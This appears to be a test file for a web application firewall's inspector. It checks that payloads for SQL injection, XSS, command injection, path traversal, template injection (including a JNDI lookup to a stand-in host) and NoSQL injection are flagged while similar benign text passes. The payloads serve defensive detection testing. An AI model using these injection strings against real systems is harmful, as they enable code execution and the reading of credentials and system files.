import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { Inspector } from '../../src/waf/inspector.js';
import { normaliseValue, percentDecodeOnce, decodeHtmlEntities } from '../../src/waf/normalise.js';
import { detectSqliUnfiltered } from '../../src/waf/sqli.js';
import type { AttackClass } from '../../src/waf/classes.js';
import { allClasses } from './corpus.js';

const pl1 = allClasses(1);
const classOf = (value: string, urlDecode = false) => pl1.inspectValue(value, urlDecode)?.class;

const TABLES: Record<string, { attacks: string[]; benign: string[] }> = {
  sqli: {
    attacks: [
      "' OR '1'='1",
      "admin'--",
      '1 UNION SELECT 1,2',
      '1; DROP TABLE users',
      "1' AND SLEEP(5)--",
      '1 or 1=1',
      "') or ('a'='a",
      // a number directly before a word: the SQL lexer (and MySQL) read `1or` as `1 or`
      '1or 1=1',
      '-1or 2>1',
      '1and 1=1',
      '1OR true',
      '1xor 1',
      '1e5or 1=1',
      '1union select null',
      '-1UNION SELECT 1,2',
      '1order by 3',
      '0PG_CATALOG-1',
      // a hex literal ends at its last hex digit: `0x1or` is `0x1` and `or`
      '0x1or 1=1',
      '0x1or true',
      '0XABor 1=1',
      '0x1union select null',
      '-0x7fxor 1',
      // blanks other than the space around the word: SQL reads any whitespace (and `/**/`) as one
      '1\tor\ttrue',
      '1\nor\ntrue',
      '1\ror\r1',
      '1\u000bor\u000b1',
      '1\u000cor 1',
      '1\tand\ttrue',
      '1\r\nxor\r\n1',
      '1\torder\tby\t3',
      "x'\tor\t'1'='1",
      '1/**/or/**/1=1',
      '1/**/or/**/true',
      // any character that ends the word: `1 or.5` is `1 or .5`
      '1or.5',
      '1 or!1',
      '1 or~1',
    ],
    benign: [
      "O'Brien",
      'select the best option from the menu',
      'Order by phone',
      "It's 5 o'clock",
      '1 + 1 = 2, and 2 + 2 = 4.',
      'Espresso beans, 1 kg',
      '3rd floor (2nd door)',
      '75002 Paris',
      'Call 2or 3 times',
      'Colour 0x1F or 0x2E',
      'Use 0xor',
      '1and only',
      '12 Rue de la Paix\n75002 Paris',
      'Call me\nor text me',
      'Tea\tor\tcoffee',
      'Sorted\nby date',
    ],
  },
  xss: {
    attacks: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '" onmouseover="alert(1)',
      'javascript:alert(1)',
      '<svg/onload=alert(1)>',
    ],
    benign: ['<b>bold</b>', 'a < b and c > d', 'JavaScript: The Good Parts', 'List<String>', 'online=true'],
  },
  cmdi: {
    attacks: ['; cat /etc/passwd', '| id', '$(whoami)', '`uname -a`', ";w'h'o'am'i", 'a && sleep 5'],
    benign: [
      'Tom & Jerry; cat lovers',
      "Ben & Jerry's",
      'Salt & pepper | to taste',
      'Sleep is important; get 8 hours.',
    ],
  },
  traversal: {
    attacks: [
      '../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '/proc/self/environ',
      'php://filter/resource=index.php',
      '....//....//etc/passwd',
    ],
    benign: [
      '../README.md is in the parent folder',
      'Wait... what?!',
      'C:\\Users\\Public\\report.docx',
      'src/components/Button.tsx',
    ],
  },
  ssti: {
    attacks: [
      '{{7*7}}',
      '${7*7}',
      "{{ ''.__class__.__mro__ }}",
      '${jndi:ldap://evil.example/a}',
      '<%= system("id") %>',
    ],
    benign: ['Hello {{name}}', 'Dear ${firstName}', '{% if user %}Hi{% endif %}', 'console.log(`${a}`)'],
  },
  nosqli: {
    attacks: ['{"$ne": null}', "'; return true; var x='", "' || '1'=='1"],
    benign: ['The price is $5', 'Costs $10 (was $12)'],
  },
};

for (const [cls, table] of Object.entries(TABLES)) {
  describe(`${cls} at the default level`, () => {
    test('attacks are flagged by this class alone', () => {
      const only = new Inspector({ paranoia: 1, classes: new Set([cls as AttackClass]) });
      for (const attack of table.attacks) assert.equal(only.inspectValue(attack, false)?.class, cls, attack);
    });
    test('honest look-alikes pass', () => {
      for (const text of table.benign) assert.equal(pl1.inspectValue(text, false), undefined, text);
    });
  });
}

describe('NoSQL operators in keys', () => {
  test('operator keys, bracketed and dotted query keys are flagged; JSON Schema keywords are not', () => {
    for (const key of ['$ne', '$where', '$regex', 'password[$ne]', 'a[b][$gt]', 'user.$in'])
      assert.equal(pl1.inspectKey(key)?.class, 'nosqli', key);
    for (const key of ['$schema', '$ref', '$id', 'price$', 'a[b]'])
      assert.equal(pl1.inspectKey(key), undefined, key);
    assert.equal(allClasses(3).inspectKey('$schema')?.rule, 'nosqli.dollar-key');
  });
});

describe('decoding once', () => {
  test('HTML entities, full-width forms and NUL are normalised before matching', () => {
    assert.equal(classOf('&lt;script&gt;alert(1)&lt;/script&gt;'), 'xss');
    assert.equal(classOf('&#x3c;img src=x onerror=alert(1)&#x3e;'), 'xss');
    assert.equal(classOf('＜script＞alert(1)＜/script＞'), 'xss');
    assert.equal(classOf('<a href="jav&#x09;ascript:alert(1)">'), 'xss');
    const n = normaliseValue('a\0b');
    assert.deepEqual([n.text, n.hadNul], ['ab', true]);
    assert.equal(classOf('file.php\0.jpg'), 'encoding');
  });
  test('JSON strings get the one URL-decode; transport-decoded values do not get a second', () => {
    assert.equal(classOf('%27%20OR%201%3D1--', true), 'sqli'); // JSON string: decoded once, then matched
    assert.equal(percentDecodeOnce('%2527'), '%27'); // only one level comes off
    assert.equal(percentDecodeOnce('100%'), '100%');
    assert.equal(decodeHtmlEntities('&amp;lt;'), '&lt;');
  });
  test('double encoding is caught: the once-decoded value still carries an encoded metacharacter', () => {
    // ?q=%2527%20OR%201=1 arrives as "%27 OR 1=1" after the query string's one decode
    assert.equal(pl1.inspectValue('%27 OR 1=1', false)?.rule, 'encoding.double-encoded');
    assert.equal(pl1.inspectValue('%3Cscript%3E', false)?.rule, 'encoding.double-encoded');
    assert.equal(pl1.inspectValue('..%2f..%2fetc%2fpasswd', false)?.class, 'traversal');
    // an honest percent-encoded URL inside JSON is decoded once and passes
    assert.equal(pl1.inspectValue('https://de.wikipedia.org/wiki/M%C3%BCnchen', true), undefined);
  });
});

describe('SQL blanks other than the space', () => {
  test('logic words between tabs, newlines, \\v or \\f are refused at every level', () => {
    for (const paranoia of [1, 2, 3] as const) {
      const sqli = new Inspector({ paranoia, classes: new Set(['sqli']) });
      for (const attack of ['1\tor\ttrue', '1\nor\ntrue', '1\ror\r1', '1\u000bor\u000b1', '1\u000cor 1'])
        assert.equal(
          sqli.inspectValue(attack, false)?.class,
          'sqli',
          `${paranoia} ${JSON.stringify(attack)}`,
        );
    }
  });
});

/** Bare statements: a statement word first, with the words that make it a statement. */
const BARE_STATEMENTS = [
  'drop table users',
  'DROP DATABASE prod',
  'delete from users',
  'exec thetable',
  'EXECUTE thetable',
  'truncate table users',
  'insert into users values(1)',
  'update users set role=admin',
  'update users set role = admin',
  'alter table users add x int',
  'create table t (a int)',
  'shutdown',
  'SHUTDOWN WITH NOWAIT',
  'grant all on db to bob',
  ' drop\ttable users',
  '(delete from users',
  // table aliases
  'delete from users u where 1=1',
  'DELETE FROM users AS u WHERE u.id = 1',
  'update users u set role=admin',
  'update users as u set role = admin',
  'delete u from users u where 1=1',
  'delete users from users where 1=1',
];

describe('bare SQL statements (level 2)', () => {
  test('are refused from level 2 by the statement rule, whatever the gate sees', () => {
    for (const paranoia of [2, 3] as const) {
      const sqli = new Inspector({ paranoia, classes: new Set(['sqli']) });
      for (const statement of BARE_STATEMENTS)
        assert.equal(
          sqli.inspectValue(statement, false)?.rule,
          'sqli.statement',
          `${paranoia} ${JSON.stringify(statement)}`,
        );
    }
    for (const statement of BARE_STATEMENTS)
      assert.notEqual(allClasses(2).inspectValue(statement, true), undefined, JSON.stringify(statement));
  });
  test('pass at level 1 (the default stays low on false positives)', () => {
    const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (const statement of BARE_STATEMENTS.filter((s) => !/[(=]/.test(s)))
      assert.equal(sqli.inspectValue(statement, false), undefined, JSON.stringify(statement));
  });
  test('statement-shaped sentences pass at level 2 and are refused from level 3', () => {
    const level3 = new Inspector({ paranoia: 3, classes: new Set(['sqli']) });
    for (const prose of ['Drop table reservations by Friday?', 'Delete from my list please'])
      assert.equal(level3.inspectValue(prose, false)?.rule, 'sqli.statement', prose);
  });
  test('prose that starts with a statement word but has no statement shape passes at level 2', () => {
    const sqli = new Inspector({ paranoia: 2, classes: new Set(['sqli']) });
    for (const prose of [
      'Please update your address',
      'Update your address please',
      'Delete my account',
      'drop me a line',
      'Insert coin',
      'Create an account',
      'execute',
      'Dropbox link',
      'Grant application',
      'select the best option from the menu',
      // statement-shaped, but sentences: `?`, `:`, a final `.`, three plain words in a row
      'Drop table reservations by Friday?',
      'Delete from my list please',
      'Grant access to the shared folder? Yes/No',
      'Execute the plan as discussed.',
      'Truncate long titles to 50 characters.',
      'Select all that apply: A, B, C',
      'Delete photos from my album',
      'Delete duplicates from the list',
    ])
      assert.equal(sqli.inspectValue(prose, false), undefined, JSON.stringify(prose));
  });
});

describe('SQL rules that need no punctuation (level 1)', () => {
  const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
  test('into outfile / into dumpfile', () => {
    for (const attack of ['1 into outfile x', 'grant  into outfile', 'x INTO DUMPFILE y'])
      assert.equal(sqli.inspectValue(attack, false)?.rule, 'sqli.into-outfile', JSON.stringify(attack));
  });
});

describe('MSSQL stored procedures after exec (level 1)', () => {
  test('exec / execute followed by an xp_ or sp_ procedure is refused with or without other punctuation', () => {
    const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (const attack of [
      'exec xp_cmdshell',
      "exec xp_cmdshell 'dir'",
      'EXEC XP_CMDSHELL dir',
      'execute sp_executesql x',
      'exec\txp_dirtree x',
      'please exec xp_cmdshell now',
      'exec  \n sp_configure x',
    ])
      assert.equal(sqli.inspectValue(attack, false)?.rule, 'sqli.stored-procedure', JSON.stringify(attack));
  });
  test('exec of a procedure named through master (master..xp_cmdshell) is refused without other punctuation', () => {
    const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (const attack of [
      'exec master..xp_cmdshell',
      'exec master.dbo.xp_cmdshell',
      'EXEC Master..xp_dirtree x',
      'select name from master.sys.databases',
      // blanks around the dots of the name: SQL Server reads these as the same name
      'exec master . . xp_cmdshell',
      'exec master . dbo . xp_cmdshell dir',
      'EXEC master .. xp_cmdshell',
      'execute master\t.dbo. xp_dirtree x',
    ])
      assert.notEqual(sqli.inspectValue(attack, false), undefined, JSON.stringify(attack));
    // `master.` ending a sentence after the word exec is prose, not a three-part name
    for (const value of [
      'Please exec master. Then go.',
      'exec master. Anna knows.',
      'Please exec master . Then go.',
      'exec master is here',
    ])
      assert.equal(sqli.inspectValue(value, false), undefined, value);
  });
  test('a word that only starts with exec is not exec', () => {
    for (const value of ['execx xp_cmdshell', 'executes sp_who', 'exec_ xp_cmdshell', 'exec1 sp_who']) {
      for (const level of [1, 2, 3] as const) {
        assert.equal(detectSqliUnfiltered(value, level), undefined, `${level} ${value}`);
        assert.equal(allClasses(level).inspectValue(value, false), undefined, `${level} ${value}`);
      }
    }
    assert.equal(pl1.inspectValue('run sp_who, then exec', false), undefined);
  });
});

describe('system catalogue names in a value with a dot (level 1)', () => {
  test('are refused without other punctuation', () => {
    const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (const attack of [
      'pg_catalog.pg_user',
      '0PG_CATALOG.PG_USER',
      'select name from pg_catalog.pg_tables',
      'select * from pg_catalog.pg_tables',
      'information_schema.tables',
      'x.sysobjects',
      '\u00a0pg_user.x',
    ])
      assert.equal(sqli.inspectValue(attack, false)?.rule, 'sqli.catalogue', JSON.stringify(attack));
  });
  test('NUL removal that joins a name is read like the joined value; a longer word is no name', () => {
    const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    assert.equal(sqli.inspectValue('pg_\0user.x', false)?.rule, 'sqli.catalogue');
    assert.equal(sqli.inspectValue('\0 pg_userload x. master.', false), undefined);
  });
  test('schema-qualified catalogue names (mysql.user, sys.objects) are refused; near misses pass', () => {
    const sqli = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (const attack of [
      'mysql.user',
      'MySQL.User',
      'mysql . user',
      'select user, authentication_string from mysql.user',
      'x from sys.objects',
      'SYS.SQL_LOGINS',
      'sys.server_principals',
    ])
      assert.equal(sqli.inspectValue(attack, false)?.rule, 'sqli.catalogue', JSON.stringify(attack));
    for (const value of [
      'import sys; sys.stdout.write(x)',
      'mysql.users_guide',
      'mysql user manual',
      'sys admin.',
    ])
      assert.equal(sqli.inspectValue(value, false), undefined, value);
  });
  test('a lone name without SQL punctuation or a dot, and master before a full stop, pass', () => {
    for (const value of ['pg_user', 'all_tables', 'user_tables', 'He finished his master. Then he left.'])
      assert.equal(pl1.inspectValue(value, false), undefined, value);
  });
});

describe('level-2 SQL functions after a parenthesis that opens the value', () => {
  test('are refused at level 2 whatever comes first (the gate reads every `(`, the first one included)', () => {
    const sqli = new Inspector({ paranoia: 2, classes: new Set(['sqli']) });
    for (const attack of ['(a) char(65)', '(1) concat(0x61,0x62)', '( ascii(x)', '(x)(y) hex(1)'])
      assert.equal(sqli.inspectValue(attack, false)?.rule, 'sqli.sql-function', JSON.stringify(attack));
    assert.equal(sqli.inspectValue('(a) see chapter 3', false), undefined);
  });
});

describe('level 2 reads what the level-1 gate reads', () => {
  test('a logic word between punctuation is refused at level 2 (the level-2 gate alone did not pass it)', () => {
    const sqli = new Inspector({ paranoia: 2, classes: new Set(['sqli']) });
    for (const attack of ['?or-a*b', '?or-cmd /c1or'])
      assert.equal(sqli.inspectValue(attack, false)?.rule, 'sqli.numeric-logic', JSON.stringify(attack));
  });
});

describe('paranoia levels and classes', () => {
  test('higher levels flag more', () => {
    assert.equal(pl1.inspectValue('../README.md', false), undefined);
    assert.equal(allClasses(2).inspectValue('../README.md', false)?.class, 'traversal');
    assert.equal(allClasses(2).inspectValue('<p>hi</p>', false), undefined);
    assert.equal(allClasses(3).inspectValue('<p>hi</p>', false)?.class, 'xss');
  });
  test('a class that is not enabled never fires; skipped classes are skipped per call', () => {
    const onlySql = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    assert.equal(onlySql.inspectValue('<script>alert(1)</script>', false), undefined);
    assert.equal(onlySql.inspectKey('$ne'), undefined);
    assert.equal(pl1.inspectValue('<script>alert(1)</script>', false, new Set(['xss'])), undefined);
  });
});
